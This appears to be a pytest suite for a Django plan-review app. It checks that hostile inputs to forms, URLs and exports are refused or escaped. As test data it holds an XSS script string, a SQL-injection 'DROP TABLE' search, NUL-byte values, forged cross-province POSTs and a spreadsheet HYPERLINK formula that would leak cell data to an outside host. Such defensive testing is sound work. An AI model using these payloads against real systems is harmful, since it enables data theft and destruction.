"""The bad-input corpus for forms, URLs and stored text: every input is refused with a message or a 4xx —
never a server error (the test client raises it) and never a partial write — and text comes back escaped.

Uploads have their own corpus: tests/test_bad_uploads.py.
"""

import csv
import io
import unicodedata

import pytest
from django.conf import settings
from django.urls import reverse
from django.utils import translation
from openpyxl import load_workbook

from localities.models import Locality
from plans.models import AppendixRow, HouseholdFigure, Plan, ReportingObligation
from workflow.models import ReviewEvent, Role, Table, TableReview

from .test_editing import DISTRICTS_HY, HY, TTH, as_user, load, make_user, prefix, snapshot
from .workbook_factory import edited, read

pytestmark = pytest.mark.django_db

SCRIPT = "<script>alert('xss')</script>"
ESCAPED = "&lt;script&gt;alert(&#x27;xss&#x27;)&lt;/script&gt;"
PHU_CU = "hung-yen-phu-cu"


@pytest.fixture
def reviewer():
    return make_user("ldtbxh", Role.REVIEWER, province=Locality.objects.get(slug="hung-yen"))


@pytest.fixture
def official():
    return make_user("phucu", Role.LOCALITY_OFFICIAL, locality=Locality.objects.get(slug=PHU_CU))


def nfd(text: str) -> str:
    return unicodedata.normalize("NFD", text)


# --- forms: the district grid ------------------------------------------------------------------------------

# What people type, paste or forge into a figure's cell. Each is either read as the number it is, or refused.
CELL_CORPUS = [
    "",
    "   ",
    "0",
    "-5",
    "−5",  # a typographic minus
    "99999999999999999999999999",
    "9" * 5000,
    "1e5",
    "NaN",
    "Infinity",
    "7.540,5",
    "7,540",  # English grouping in the Vietnamese interface: refused, never read as 7,54
    "1.2.3",
    "mười",
    SCRIPT,
    "\x00",
    "1\x002",
    "７５４０",  # full-width digits
    "٣٤",  # Arabic-Indic digits
    "7\u00a0540",  # a no-break space as the thousands separator
    "‮0457",  # right-to-left override
    "𝟕𝟓𝟒𝟎",  # mathematical digits
    "Phù Cừ",
    nfd("Phù Cừ"),
]


@pytest.mark.parametrize("field", ["households", "poor_households", "published_rate"])
@pytest.mark.parametrize("typed", CELL_CORPUS, ids=range(len(CELL_CORPUS)))
def test_any_text_in_a_grid_cell_is_saved_as_its_number_or_refused_next_to_the_cell(client, reviewer, field, typed):
    values = load(as_user(client, reviewer), DISTRICTS_HY + "?year=2024")
    values[f"{prefix(PHU_CU)}-{field}"] = typed
    before = snapshot()
    response = client.post(DISTRICTS_HY + "?year=2024", values)
    assert response.status_code in (200, 302)
    if response.status_code == 200:  # refused: the grid again with the message, nothing written
        assert snapshot() == before
        html = response.content.decode()
        assert "<script>alert" not in html
        assert 'class="cell-error' in html  # the message is next to the cell
    else:
        figure = HouseholdFigure.objects.get(plan__slug=HY, locality__slug=PHU_CU, year=2024, kind="target")
        assert getattr(figure, field) is None or getattr(figure, field) >= 0


def test_a_reason_with_a_script_is_stored_as_text_and_shown_escaped_in_the_history(client, reviewer):
    values = load(as_user(client, reviewer), DISTRICTS_HY + "?year=2024")
    values[f"{prefix(PHU_CU)}-poor_households"] = "318"  # 319 → 318 keeps the published rate 1,06
    values["reason"] = SCRIPT
    assert client.post(DISTRICTS_HY + "?year=2024", values).status_code == 302
    figure = HouseholdFigure.objects.get(plan__slug=HY, locality__slug=PHU_CU, year=2024, kind="target")
    assert figure.history.first().history_change_reason == SCRIPT
    html = client.get(reverse("review:history", args=[HY])).content.decode()
    assert ESCAPED in html and SCRIPT not in html
    html = client.get(reverse("review:object_history", args=[HY, "figure", figure.pk])).content.decode()
    assert ESCAPED in html and SCRIPT not in html


def test_a_reason_that_is_too_long_or_holds_a_nul_is_refused_and_nothing_is_written(client, reviewer):
    for reason in ("x" * 301, "lý do\x00"):
        values = load(as_user(client, reviewer), DISTRICTS_HY + "?year=2024")
        values[f"{prefix(PHU_CU)}-poor_households"] = "318"
        values["reason"] = reason
        before = snapshot()
        response = client.post(DISTRICTS_HY + "?year=2024", values)
        assert response.status_code == 200
        assert response.context["batch"].errors["reason"]
        assert snapshot() == before


def test_a_crafted_post_for_a_row_of_another_province_changes_nothing(client, official):
    values = load(as_user(client, official), DISTRICTS_HY + "?year=2024")
    a_luoi = Locality.objects.get(slug="thua-thien-hue-a-luoi")
    values[f"f{a_luoi.pk}-households"] = "1"  # not a row of this grid: ignored
    values[f"f{a_luoi.pk}-version"] = "0"
    before = snapshot()
    response = client.post(DISTRICTS_HY + "?year=2024", values)
    assert response.status_code in (200, 302)
    assert snapshot() == before


def test_a_crafted_post_for_another_district_of_the_same_plan_is_refused_with_403(client, official):
    values = load(as_user(client, official), DISTRICTS_HY + "?year=2024")
    tien_lu = Locality.objects.get(slug="hung-yen-tien-lu")
    figure = HouseholdFigure.objects.get(plan__slug=HY, locality=tien_lu, year=2024, kind="target")
    values[f"f{tien_lu.pk}-households"] = "1"
    values[f"initial-f{tien_lu.pk}-households"] = str(figure.households)
    values[f"f{tien_lu.pk}-version"] = str(figure.version)
    before = snapshot()
    assert client.post(DISTRICTS_HY + "?year=2024", values).status_code == 403
    assert snapshot() == before


def test_a_forged_version_is_refused_not_a_server_error(client, reviewer):
    values = load(as_user(client, reviewer), DISTRICTS_HY + "?year=2024")
    values[f"{prefix(PHU_CU)}-poor_households"] = "318"
    for version in ("abc", "-1", "99999999999999999999999"):
        values[f"{prefix(PHU_CU)}-version"] = version
        before = snapshot()
        assert client.post(DISTRICTS_HY + "?year=2024", values).status_code == 200
        assert snapshot() == before


# --- forms: review comments, reporting notes, searches -----------------------------------------------------


def test_a_review_comment_with_a_script_is_shown_escaped_on_every_page(client, reviewer):
    as_user(client, reviewer)
    url = reverse("review:review_action", args=[HY, Table.DISTRICTS, "submit"])
    assert client.post(url, {"locality": PHU_CU, "comment": SCRIPT}).status_code == 302
    assert TableReview.objects.get(plan__slug=HY, locality__slug=PHU_CU).comment == SCRIPT
    for page in ("review:review", "reports:districts", "review:history"):
        html = client.get(reverse(page, args=[HY])).content.decode()
        assert SCRIPT not in html, page
    assert ESCAPED in client.get(reverse("reports:districts", args=[HY])).content.decode()


def test_a_review_comment_holding_a_nul_is_refused_with_a_message(client, reviewer):
    as_user(client, reviewer)
    url = reverse("review:review_action", args=[HY, Table.DISTRICTS, "submit"])
    response = client.post(url, {"locality": PHU_CU, "comment": "ok\x00"}, follow=True)
    assert response.status_code == 200
    assert not ReviewEvent.objects.exists()
    assert not TableReview.objects.filter(plan__slug=HY, locality__slug=PHU_CU).exclude(state="draft").exists()


def test_a_report_note_with_a_script_or_a_nul_is_escaped_or_refused(client, reviewer):
    as_user(client, reviewer)
    obligation = ReportingObligation.objects.filter(plan__slug=HY).first()
    url = reverse("review:mark_reported", args=[HY, obligation.pk])
    client.post(url, {"reported_on": "03/01/2025", "report_note": SCRIPT})
    obligation.refresh_from_db()
    assert obligation.report_note == SCRIPT
    html = client.get(reverse("reports:results", args=[HY])).content.decode()
    assert SCRIPT not in html
    for bad in ({"report_note": "x\x00"}, {"reported_on": "32/13/2025"}, {"reported_on": "9" * 400}):
        assert client.post(url, bad, follow=True).status_code == 200
    obligation.refresh_from_db()
    assert obligation.report_note == SCRIPT


@pytest.mark.parametrize(
    "search", ["", SCRIPT, "\x00", "%", "_", "'; DROP TABLE plans_plan; --", "x" * 10_000, "Hưng Yên", nfd("Hưng Yên")]
)
def test_the_home_search_answers_any_text(client, search):
    response = client.get(reverse("reports:home"), {"q": search})
    assert response.status_code == 200
    assert "<script>alert" not in response.content.decode()
    assert Plan.objects.filter(slug=HY).exists()


def test_a_district_name_typed_with_decomposed_diacritics_finds_the_same_plan(client):
    for typed in ("Hưng Yên", nfd("Hưng Yên"), nfd("hưng yên"), "HƯNG YÊN", "  hưng   yên ", "hung yen"):
        groups = client.get(reverse("reports:home"), {"q": typed}).context["groups"]
        assert [plan.slug for _province, plans in groups for plan in plans] == [HY], typed


def test_filters_with_nonsense_are_ignored_with_a_message(client):
    url = reverse("reports:districts", args=[HY])
    for query in (
        {"year": "abc"},
        {"year": "99999999999999999999"},
        {"district": ["khong-co", SCRIPT]},
        {"sort": SCRIPT},
    ):
        response = client.get(url, query)
        assert response.status_code == 200
        assert "<script>alert" not in response.content.decode()
    assert client.get(reverse("reports:districts_csv", args=[HY]), {"year": "abc"}).status_code == 200
    history = reverse("review:history", args=[HY])
    client.force_login(make_user("docgia", Role.READER))
    for query in ({"page": "abc"}, {"page": "-1"}, {"date_from": "31/02/2024"}, {"user": SCRIPT}, {"kind": "x"}):
        assert client.get(history, query).status_code == 200


# --- URLs -------------------------------------------------------------------------------------------------


def other_province_ids() -> dict:
    return {
        "figure": HouseholdFigure.objects.filter(plan__slug=TTH).first().pk,
        "obligation": ReportingObligation.objects.filter(plan__slug=TTH).first().pk,
    }


@pytest.mark.parametrize(
    ("url", "status"),
    [
        ("/plans/khong-co/", 404),
        ("/plans/khong-co/districts/", 404),
        ("/plans/khong-co/districts.csv", 404),
        ("/plans/khong-co/export.xlsx", 404),
        (f"/plans/{HY}/appendices/99/export.xlsx", 404),
        (f"/plans/{HY}/appendices/99/import/", 404),
        (f"/plans/{HY}/districts/?appendix=99", 404),
        (f"/plans/{HY}/history/figure/999999999/", 404),
        (f"/plans/{HY}/history/khong-co/1/", 404),
        (f"/plans/{HY}/review/districts/delete/", 405),
        ("/localities/khong-co/", 404),
        ("/agencies/hung-yen/khong-co/", 404),
        ("/agencies/thua-thien-hue/so-yt-hung-yen/", 404),
        ("/plans/%3Cscript%3E/", 404),
        ("/plans/" + "a" * 3000 + "/", 404),
        (f"/plans/{HY}/districts/edit/?year=99999999999999999999", 404),
        (f"/plans/{HY}/districts/edit/?kind=%00", 404),
    ],
)
def test_unknown_addresses_are_404_for_a_reviewer(client, reviewer, url, status):
    as_user(client, reviewer)
    assert client.get(url).status_code == status


def test_ids_of_another_provinces_plan_are_not_found_under_this_plan(client, reviewer):
    as_user(client, reviewer)
    ids = other_province_ids()
    assert client.get(reverse("review:object_history", args=[HY, "figure", ids["figure"]])).status_code == 404
    before = snapshot()
    response = client.post(reverse("review:mark_reported", args=[HY, ids["obligation"]]), {"report_note": "x"})
    assert response.status_code == 404
    assert not ReportingObligation.objects.get(pk=ids["obligation"]).reported_on
    url = reverse("review:review_action", args=[HY, Table.DISTRICTS, "approve"])
    assert client.post(url, {"locality": "thua-thien-hue-a-luoi"}).status_code == 404
    # The other province's own pages refuse the Hưng Yên reviewer's writes.
    assert client.post(reverse("review:mark_reported", args=[TTH, ids["obligation"]]), {}).status_code == 403
    assert client.post(reverse("editing:districts_edit", args=[TTH]), {}).status_code == 403
    assert snapshot() == before


@pytest.mark.parametrize(
    ("table", "action"), [("districts", "delete"), ("khong-co", "submit"), ("indicators", "approve%00"), (SCRIPT, "x")]
)
def test_crafted_review_posts_are_refused(client, reviewer, table, action):
    as_user(client, reviewer)
    before = TableReview.objects.count()
    url = f"/plans/{HY}/review/{table}/{action}/"
    assert client.post(url, {"locality": PHU_CU}).status_code == 404
    assert TableReview.objects.count() == before


# --- stored text on output ------------------------------------------------------------------------------


@pytest.fixture
def hostile_label():
    """A district label as an administrator could type it in the admin."""
    row = AppendixRow.objects.get(appendix__plan__slug=HY, locality__slug=PHU_CU)
    row.label = SCRIPT
    row.save()
    return row


def test_a_stored_script_is_escaped_on_the_pages(client, hostile_label):
    for url in (
        reverse("reports:plan", args=[HY]),
        reverse("reports:districts", args=[HY]),
        reverse("reports:results", args=[HY]),
        reverse("reports:quality", args=[HY]),
    ):
        html = client.get(url).content.decode()
        assert SCRIPT not in html, url
    assert ESCAPED in client.get(reverse("reports:districts", args=[HY])).content.decode()


def test_a_stored_script_is_plain_text_in_the_csv_and_in_the_workbook(client, hostile_label):
    text = client.get(reverse("reports:districts_csv", args=[HY])).content.decode("utf-8-sig")
    labels = [row[1] for row in csv.reader(io.StringIO(text), delimiter=";")]
    assert SCRIPT in labels
    data = b"".join(client.get(reverse("spreadsheets:export_appendix", args=[HY, "01"])).streaming_content)
    ws = load_workbook(io.BytesIO(data))["Phụ lục 01"]
    cells = [cell for row in ws.iter_rows() for cell in row if cell.value == SCRIPT]
    assert len(cells) == 1 and cells[0].data_type == "s"


def test_a_stored_label_that_looks_like_a_formula_stays_text_in_the_workbook_and_the_csv(client, hostile_label):
    formula = '=HYPERLINK("http://example.org/?"&A1,"Phù Cừ")'
    AppendixRow.objects.filter(pk=hostile_label.pk).update(label=formula)
    data = b"".join(client.get(reverse("spreadsheets:export_appendix", args=[HY, "01"])).streaming_content)
    ws = load_workbook(io.BytesIO(data))["Phụ lục 01"]
    cells = [cell for row in ws.iter_rows() for cell in row if cell.value == formula]
    assert len(cells) == 1 and cells[0].data_type == "s"  # text: Excel shows it, never runs it
    text = client.get(reverse("reports:districts_csv", args=[HY])).content.decode("utf-8-sig")
    assert "'" + formula in [row[1] for row in csv.reader(io.StringIO(text), delimiter=";")]


# --- Unicode: one district however its diacritics are typed ----------------------------------------------


@pytest.mark.parametrize("form", ["NFC", "NFD", "NFKD"])
def test_a_district_named_with_decomposed_diacritics_in_a_workbook_is_the_same_district(form):
    label = unicodedata.normalize(form, "Phù Cừ")
    with translation.override("en"):
        data = edited(HY, "01", [("Phụ lục 01", "Phù Cừ", "Năm 2024 — Tổng số hộ nghèo", 318)])
        workbook = load_workbook(io.BytesIO(data))
        ws = workbook["Phụ lục 01"]
        for row in ws.iter_rows(min_col=2, max_col=2):
            if row[0].value == "Phù Cừ":
                row[0].value = label
        buffer = io.BytesIO()
        workbook.save(buffer)
        result = read(buffer.getvalue(), HY, "01")
    assert result.ok, [str(problem) for problem in result.errors]
    assert [(change.owner_id, change.new) for change in result.changes] == [
        (Locality.objects.get(slug=PHU_CU).pk, "318")
    ]


def test_the_english_interface_gets_the_same_refusals(client, reviewer):
    client.cookies[settings.LANGUAGE_COOKIE_NAME] = "en"
    values = load(as_user(client, reviewer), DISTRICTS_HY + "?year=2024")
    values[f"{prefix(PHU_CU)}-households"] = "7.540,5"  # Vietnamese writing in the English interface
    before = snapshot()
    assert client.post(DISTRICTS_HY + "?year=2024", values).status_code == 200
    assert snapshot() == before
